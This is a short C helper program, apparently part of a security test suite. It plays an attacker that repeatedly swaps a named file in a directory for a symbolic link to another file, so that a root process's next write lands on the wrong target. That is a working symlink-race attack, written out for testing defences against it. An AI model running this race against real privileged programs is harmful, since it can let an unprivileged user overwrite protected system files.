// SPDX-License-Identifier: Apache-2.0
//
// racer DIRECTORY NAME FILE - what an attacker runs beside root: as soon as DIRECTORY has NAME in
// it, exchanges it for a symbolic link to FILE, so that root's next change by that name would
// change FILE. Tries as often as it can until its parent ends. Prints a line for each kind of
// answer that a try was given.
#define _GNU_SOURCE
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/prctl.h>
#include <unistd.h>

static void say(const char* what, const char* why) {
    printf("%s: %s\n", what, why);
    fflush(stdout);
}

int main(int argc, char** argv) {
    if (argc != 4) return 2;
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    char name[4096], gone[4096], seen[256] = {0};
    snprintf(name, sizeof name, "%s/%s", argv[1], argv[2]);
    snprintf(gone, sizeof gone, "%s/gone", argv[1]);
    for (;;) {
        const int code = rename(name, gone) == 0 ? 0 : errno;
        if (code == 0 && symlink(argv[3], name) == 0) say("exchanged", name);
        if (code == 0 || code >= (int)sizeof seen || seen[code]) continue;
        seen[code] = 1;
        say("refused", strerror(code));
    }
}
